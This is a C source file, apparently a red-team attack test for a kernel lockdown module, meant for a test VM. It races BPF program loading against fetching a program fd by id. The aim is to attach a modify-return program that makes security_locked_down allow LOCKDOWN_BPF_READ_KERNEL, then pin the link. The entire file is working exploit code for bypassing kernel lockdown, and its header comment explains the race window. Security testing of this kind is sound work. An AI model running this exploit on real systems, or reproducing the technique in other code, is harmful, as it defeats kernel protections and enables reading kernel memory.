// SPDX-License-Identifier: GPL-2.0
/*
 * fdrace.c - `ratchet-fdrace [SECONDS]`: race BPF_PROG_LOAD for an fd by
 * id (red team 2, tests/vm/attacks/rt2-sealed-ns.sh; in a test VM only).
 * One thread loads, again and again, fmod_ret on security_locked_down
 * returning 1 for LOCKDOWN_BPF_READ_KERNEL (as fmodret.bpf.c), which the
 * lock's bpf_prog hook refuses when the load's fd is made; the other takes
 * an fd by id to each new program id the moment it appears, between
 * bpf_prog_alloc_id() and the loader's own fd (bpf_prog_load(),
 * kernel/bpf/syscall.c, 6.1 to 7.2). ratchet_bpf_prog allows that fd only
 * if the program was loaded before sealed_ns: a lock whose state says it
 * sealed in the future lets it through. The fd won is attached and the
 * link pinned at /sys/fs/bpf/rt2-fdrace. Exit 0 attached, 1 the race was
 * never won, 2 other.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>

#define NAME "rt2_fdrace"

static volatile int won = -1, stop;
static __u32 last;

static int enum_value(const struct btf *btf, const char *type, const char *name)
{
	int id = btf__find_by_name_kind(btf, type, BTF_KIND_ENUM), i;
	const struct btf_type *t = id > 0 ? btf__type_by_id(btf, id) : NULL;
	const struct btf_enum *e = t ? btf_enum(t) : NULL;

	for (i = 0; t && i < btf_vlen(t); i++, e++)
		if (!strcmp(btf__name_by_offset(btf, e->name_off), name))
			return e->val;
	return -1;
}

/* Take an fd by id to every program id newer than @last, until one is ours. */
static void *grab(void *arg)
{
	(void)arg;
	while (!stop && won < 0) {
		struct bpf_prog_info info = {};
		__u32 next, len = sizeof(info);
		int fd;

		if (bpf_prog_get_next_id(last, &next))
			continue;
		fd = bpf_prog_get_fd_by_id(next);
		if (fd < 0) {
			last = next;
			continue;
		}
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) &&
		    !strcmp(info.name, NAME)) {
			won = fd;
			break;
		}
		close(fd);
		last = next;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	struct btf *btf = btf__load_vmlinux_btf();
	int secs = argc > 1 ? atoi(argv[1]) : 20, rk, fid, fd, link;
	long tries = 0, loaded = 0;
	time_t end = time(NULL) + secs;
	pthread_t t;

	if (!btf)
		return 2;
	rk = enum_value(btf, "lockdown_reason", "LOCKDOWN_BPF_READ_KERNEL");
	fid = btf__find_by_name_kind(btf, "security_locked_down",
				     BTF_KIND_FUNC);
	if (rk < 0 || fid < 0)
		return 2;
	struct bpf_insn p[] = {
		/* r0 = 0; r2 = ctx[0] (what); if r2 != rk goto +1; r0 = 1 */
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
		{ .code = BPF_LDX | BPF_MEM | BPF_DW,
		  .dst_reg = 2,
		  .src_reg = 1 },
		{ .code = BPF_JMP | BPF_JNE | BPF_K,
		  .dst_reg = 2,
		  .off = 1,
		  .imm = rk },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	LIBBPF_OPTS(bpf_prog_load_opts, o,
		    .expected_attach_type = BPF_MODIFY_RETURN,
		    .attach_btf_id = fid);

	bpf_prog_get_next_id(0, &last);
	while (!bpf_prog_get_next_id(last, &last))
		;
	pthread_create(&t, NULL, grab, NULL);
	while (won < 0 && time(NULL) < end) {
		fd = bpf_prog_load(BPF_PROG_TYPE_TRACING, NAME, "GPL", p, 5,
				   &o);
		tries++;
		if (fd >= 0) {
			loaded++;
			won = fd;
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("fdrace: %ld loads, %ld returned an fd; race %s\n", tries,
	       loaded, won >= 0 ? "won" : "never won");
	if (won < 0)
		return 1;
	link = bpf_link_create(won, 0, BPF_MODIFY_RETURN, NULL);
	if (link < 0) {
		printf("fdrace: attaching: %s\n", strerror(errno));
		return 2;
	}
	unlink("/sys/fs/bpf/rt2-fdrace");
	if (bpf_obj_pin(link, "/sys/fs/bpf/rt2-fdrace")) {
		printf("fdrace: pinning: %s\n", strerror(errno));
		return 2;
	}
	printf("fdrace: fmod_ret/security_locked_down attached, pinned at "
	       "/sys/fs/bpf/rt2-fdrace\n");
	return 0;
}
